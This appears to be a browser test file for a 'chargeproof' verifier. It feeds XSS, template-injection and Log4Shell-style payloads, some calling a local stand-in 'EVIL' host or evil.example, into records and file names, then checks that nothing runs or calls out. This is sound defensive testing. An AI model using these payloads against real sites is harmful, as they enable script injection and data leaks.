// Files that want to be more than text, rendered in Chromium behind the headers of `chargeproof serve`: nothing runs, nothing is asked of anybody, and the
// policy stands against what the pages' own code never does.
import { existsSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { JudgePool } from '../../src/adapters/judge-pool.ts'
import { buildVerifyDoor } from '../../src/adapters/verify-door.ts'
import { ensureWeb } from '../../src/adapters/web-assets.ts'
import { hexKeyOf, ocmfText, payload, SIGNER, safeXml } from '../../tools/transparency-vectors/maker.ts'
import { browserFor, fileOf, type Watched } from '../support/browser.ts'
import { FIXTURES, fixtureQuestions } from '../support/vectors.ts'
import { stage } from './stage.ts'

/** A server that only counts who comes. */
let visits = 0
const elsewhere = createServer((_request, response) => {
  visits++
  response.end()
})
await new Promise<void>((resolve) => void elsewhere.listen(0, '127.0.0.1', resolve))
const EVIL = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`
/** As text of every field that a record has, as names of files, and as documents of their own. */
const PAYLOADS = [
  `<img src="${EVIL}img" onerror="document.title='run'">`,
  `"><script src="${EVIL}script"></script>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='run'"><image href="${EVIL}svg"/></svg>`,
  `javascript:document.title='run'`,
  `{{constructor.constructor('document.title="run"')()}}`,
  `\${jndi:ldap://evil.example/a}`,
  `'-alert(1)-'`,
  `<a href="${EVIL}" style="background:url(${EVIL}css)">x</a>`,
] as const

const recordOf = (text: string): string => {
  const data = ocmfText(payload({ GI: text, GS: text, MV: text, MM: text, MS: text, ID: text, CI: text, TT: text }))
  return safeXml([{ data, key: hexKeyOf(SIGNER), transactionId: '1' }])
}
const documents = PAYLOADS.flatMap((text, i) => [
  { name: `${text.replaceAll(/[/\\]/g, '')}.xml`, content: recordOf(text) },
  { name: `document-${i}.svg`, content: text },
])

const available = browserFor('hostile files in a browser')
const hostile = fixtureQuestions().filter(({ name }) => name.startsWith('fixtures/hostile'))
if (!existsSync(FIXTURES)) console.log(`hostile files: no real records at ${FIXTURES}, so only those made here are rendered`)

describe.skipIf(!available)('hostile files in a browser', () => {
  const on = stage()
  let url: string
  const judges = new JudgePool()
  let door: ReturnType<typeof buildVerifyDoor>
  beforeAll(async () => {
    const everybody = { requestsPerMinute: 600, mebibytesPerDay: 100, atOnce: 4 }
    door = buildVerifyDoor({ judges, webFolder: await ensureWeb(), quotas: { keys: [], everybody, now: Date.now } })
    url = await door.listen({ port: 0, host: '127.0.0.1' })
  }, 60_000)
  afterAll(async () => {
    await door?.close()
    await judges.close()
    elsewhere.close()
  })

  const open = async (): Promise<Watched> => {
    const watched = await on.open(undefined, { fresh: true, complains: true })
    await watched.page.goto(`${url}/`)
    await watched.page.getByText('Also works without a network.').waitFor()
    return watched
  }
  /** Every session and everything behind its buttons. */
  const lookAtAll = async (page: Page): Promise<number> => {
    await page.locator('.verdict').waitFor()
    const sessions = await page.locator('[role=option]').count()
    for (let i = 0; i < sessions; i++) {
      await page.locator('[role=option]').nth(i).click()
      // each takes its name away with the click
      for (const show = page.getByRole('button', { name: /^Show/ }); (await show.count()) > 0; ) await show.first().click()
    }
    return sessions
  }
  const quiet = async ({ page, requests, complaints }: Watched, before: number): Promise<void> => {
    expect(requests.slice(before).filter((address) => !address.startsWith(`${url}/assets/`))).toEqual([])
    expect(requests.filter((address) => !address.startsWith(url))).toEqual([])
    expect(visits).toBe(0)
    expect(complaints).toEqual([])
    expect(await page.title()).toBe('Chargeproof · Verifier')
    expect(await page.locator('main :is(img, script, iframe, object, embed, image, a[href^="http"], a[href^="javascript"])').count()).toBe(
      0,
    )
  }

  const questions = [
    { name: 'made here', given: documents.map(({ name, content }) => fileOf(name, content)) },
    ...hostile.map(({ name, question }) => ({ name, given: question.map((file) => fileOf(file.name, file.bytes)) })),
  ]
  it.each(questions)('run nothing and ask for nothing: $name', { timeout: 30_000 }, async ({ name, given }) => {
    const watched = await open()
    const before = watched.requests.length
    await watched.page.setInputFiles('input[type=file]', given)
    const sessions = await lookAtAll(watched.page)
    if (name === 'made here') expect(sessions).toBe(PAYLOADS.length)
    await quiet(watched, before)
  })

  it('are held by the policy even where a page would let them in', async () => {
    const { page } = await open()
    const tried = (script: string) =>
      page.evaluate<string>(`(() => { try { ${script}; return 'done' } catch (error) { return error.name } })()`)
    expect(await tried(`document.body.innerHTML = '<b>x</b>'`)).toBe('TypeError')
    expect(await tried(`document.createElement('script').text = 'document.title = 1'`)).toBe('TypeError')
    expect(await tried(`new Worker('./assets/other.js')`)).toBe('TypeError')
    expect(await tried(`trustedTypes.createPolicy('other', {})`)).toBe('TypeError')
    expect(await tried(`trustedTypes.createPolicy('chargeproof', {})`)).toBe('TypeError')
    expect(await page.evaluate(`fetch('${EVIL}').then(() => 'sent', (error) => error.name)`)).toBe('TypeError')
    const picture = `new Promise((resolve) => { const i = new Image(); i.onerror = () => resolve('held'); i.onload = () => resolve('loaded'); i.src = '${EVIL}i' })`
    expect(await page.evaluate(picture)).toBe('held')
    const inline = `(() => { const b = document.createElement('button'); b.setAttribute('style', 'color: red'); return b.style.color })()`
    expect(await page.evaluate(inline)).toBe('')
    expect(visits).toBe(0)
    await fetch(EVIL)
    expect(visits).toBe(1)
  })
})
